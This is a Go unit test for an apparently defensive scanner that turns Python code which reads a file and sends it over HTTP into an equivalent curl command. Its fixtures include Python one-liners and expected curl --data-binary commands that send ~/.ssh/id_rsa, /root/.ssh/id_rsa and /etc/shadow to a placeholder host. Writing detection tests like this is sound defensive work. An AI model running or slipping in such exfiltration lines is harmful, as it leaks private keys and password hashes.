package payload

import (
	"strings"
	"testing"
)

// TestScanSends: Python code that reads a file and sends an HTTP request
// with a body is read as curl --data-binary @FILE URL; without a body, or
// without a read, nothing is added.
func TestScanSends(t *testing.T) {
	for _, tt := range []struct {
		src, want string
	}{
		{`import urllib.request,os;urllib.request.urlopen("https://x",data=open(os.path.expanduser("~/.ssh/id_rsa"),"rb").read())`, "curl --data-binary @~'/.ssh/id_rsa' 'https://x'"},
		{`import requests;requests.post("https://x",files={"f":open("/root/.ssh/id_rsa")})`, "curl --data-binary @'/root/.ssh/id_rsa' 'https://x'"},
		{"k=open('/etc/shadow').read()\nimport requests as r\nr.put('https://x', data=k)", "curl --data-binary @'/etc/shadow' 'https://x'"},
		{`from pathlib import Path;import urllib.request as u;u.urlopen("https://x", Path("/k").read_bytes())`, "curl --data-binary @'/k' 'https://x'"},
		{`import requests;requests.request("POST", u, data=open("/k").read())`, "curl --data-binary @'/k' 'https://unknown.invalid/'"},
		{`import httpx;httpx.post("https://x", content=open("/k","rb").read())`, "curl --data-binary @'/k' 'https://x'"},
		{`import urllib.request;urllib.request.urlopen("https://x")`, ""},
		{`import requests;requests.post("https://x", data="hi")`, ""},
		{`print(open("/root/.ssh/id_rsa").read())`, ""},
		{`import requests;requests.get("https://x", params=open("/k").read())`, ""},
		{`import requests;open("/out","w").write("x");requests.post("https://x", data="y")`, ""},
	} {
		got := strings.Join(Scan(LangPython, tt.src).Shell, "\n")
		if got != tt.want {
			t.Errorf("%s:\n got %q\nwant %q", tt.src, got, tt.want)
		}
	}
}
